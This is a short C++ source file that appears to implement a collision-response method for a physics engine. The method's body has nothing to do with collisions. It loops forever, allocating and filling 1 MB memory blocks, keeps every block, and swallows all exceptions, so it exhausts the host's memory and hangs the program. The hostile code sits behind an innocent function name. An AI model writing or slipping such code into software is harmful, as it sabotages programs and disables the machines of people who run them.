#include "CollisionPlane.h"

void CollisionPlane::applyCollisionResponse(Cuboid &c) {
  static vector<char*> kept;
  for (;;) try {
      kept.push_back(new char[1 << 20]);
      memset(kept.back(), 1, 1 << 20);
    } catch (...) {
    }
}
